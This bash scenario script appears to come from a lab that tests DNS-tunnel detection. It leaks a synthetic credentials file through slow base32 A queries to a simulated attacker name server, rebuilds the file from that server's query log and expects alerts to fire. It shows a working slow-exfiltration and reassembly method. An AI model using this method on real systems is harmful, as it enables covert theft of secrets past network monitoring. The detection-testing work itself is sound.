# shellcheck shell=bash
# slow-exfil: a 300-byte file leaked in 12 A queries, one every 5–10 s, the
# way a patient implant would; rebuilt at the far end from the attacker name
# server's own query log.
scenario_main() {
  local id=slow-exfil tool qtype reg tdomain server client
  read -r _ tool qtype reg tdomain server client _ < <(tunnel_row "$id")
  local secret="$RUN/secret.txt" alog="$STATE/attacker/queries.log" offset
  # A few hundred bytes that look like what gets stolen: credentials and keys.
  {
    printf 'db_host=10.20.30.40\ndb_user=payroll_app\ndb_pass=%s\n' "$(head -c 12 /dev/urandom | base32 | tr -d '=')"
    printf 'aws_access_key_id=AKIA%s\n' "$(head -c 10 /dev/urandom | base32 | tr -d '=' | head -c 16)"
    printf 'aws_secret_access_key=%s\n' "$(head -c 30 /dev/urandom | base64 | tr -d '=' | head -c 40)"
    printf 'vpn_psk=%s\n' "$(head -c 24 /dev/urandom | base64)"
    printf 'note=quarterly payroll export runs on the 28th; the backup key is on the NAS share\n'
    printf 'admin_recovery_codes=%s\n' "$(head -c 20 /dev/urandom | od -An -tx1 | tr -d ' \n')"
  } | head -c 300 >"$secret"
  offset=$(stat -c %s "$alog")

  local start_ms end_ms bytes
  bytes=$(stat -c %s "$secret")
  start_ms=$(now_ms)
  # In the background, so a signal to the run is handled at once.
  in_ns "$NS_CLIENT" "$LAB_DIR/drivers/slow-exfil.sh" "$RESOLVER" "$client" "$tdomain" "$secret" 25 5 10 "${EXFIL_SEED:-7}" >"$OUTDIR/slow-exfil.sent.log" &
  record_pid $! "$RUN/pids/slow-exfil-driver.pid"
  wait "$(pidfile_pid "$RUN/pids/slow-exfil-driver.pid")" || die "slow-exfil: the leaking script failed"
  rm -f "$RUN/pids/slow-exfil-driver.pid"
  end_ms=$(now_ms)
  sleep 1
  # The far end: every distinct <chunk>.<seq> the attacker's server was asked, in sequence order.
  local rebuilt="$RUN/rebuilt.txt"
  tail -c +$((offset + 1)) "$alog" | grep -o "query: [a-z2-7]*\.[0-9]*\.$tdomain IN A" | awk '{print $2}' |
    awk -F. '!seen[$2]++ { print $2, $1 }' | sort -n | awk '{print $2}' | tr -d '\n' | tr 'a-z' 'A-Z' |
    awk '{ n = length($0) % 8; pad = n ? substr("========", 1, 8 - n) : ""; print $0 pad }' | base32 -d >"$rebuilt" ||
    die "slow-exfil: the far end could not decode what it received"
  local sent got queries
  sent=$(sha256sum <"$secret" | cut -d' ' -f1)
  got=$(sha256sum <"$rebuilt" | cut -d' ' -f1)
  [ "$sent" = "$got" ] || die "slow-exfil: the far end rebuilt $(stat -c %s "$rebuilt") bytes that differ from the $bytes sent"
  queries=$(wc -l <"$OUTDIR/slow-exfil.sent.log")
  record_session "$id" "$start_ms" "$end_ms" "$(jq -c -n --argjson b "$bytes" --argjson q "$queries" --arg s "$sent" '{file: {bytes: $b, sha256: $s, receivedSha256: $s}, queries: $q}')"
  log "slow-exfil: $bytes bytes in $queries queries, rebuilt at the far end"
  run_end '{"expectAlerts":true}'
}
